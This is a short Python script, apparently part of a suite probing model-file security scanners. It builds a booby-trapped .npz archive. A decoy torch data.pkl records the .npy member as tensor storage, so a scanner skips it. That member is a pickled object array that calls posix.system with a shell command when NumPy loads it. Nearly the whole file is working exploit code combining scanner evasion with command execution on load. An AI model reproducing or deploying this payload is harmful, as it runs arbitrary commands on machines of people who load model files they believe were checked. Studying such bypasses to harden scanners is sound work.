# .npz whose object-array member is named like a storage record of a decoy torch data.pkl:
# the scanner treats it as raw tensor data and never reads it; np.load unpickles it.
from h import *
from decoy import decoy_pickle as decoy
import zipfile
def evil(n):
    return b'\x80\x02cposix\nsystem\nX'+struct.pack('<I',len(sh(n)))+sh(n).encode()+b'\x85R.'
def npy_obj(body):
    hdr="{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr=hdr+' '*(118-len(hdr)-1)+'\n'
    return b'\x93NUMPY\x01\x00'+struct.pack('<H',len(hdr))+hdr.encode()+body
def decoy_old(key, n):
    return (b'\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(X\x07\x00\x00\x00storage' +
            b'ctorch\nByteStorage\n' + b'X'+struct.pack('<I',len(key))+key.encode() +
            b'X\x03\x00\x00\x00cpuJ'+struct.pack('<i',n)+b't\x85Q' +
            b'K\x00J'+struct.pack('<i',n)+b'\x85K\x01\x85\x89ccollections\nOrderedDict\n)Rtr.')
def build(path,n):
    member=npy_obj(evil(n))
    with zipfile.ZipFile(path,'w',zipfile.ZIP_STORED) as z:
        z.writestr('data/data.pkl', decoy('w.npy',len(member)))
        z.writestr('data/data/w.npy', member)
if __name__=='__main__':
    build('npz_storage_alias.npz',3)
    report('npz_storage_alias.npz',3,'numpy')
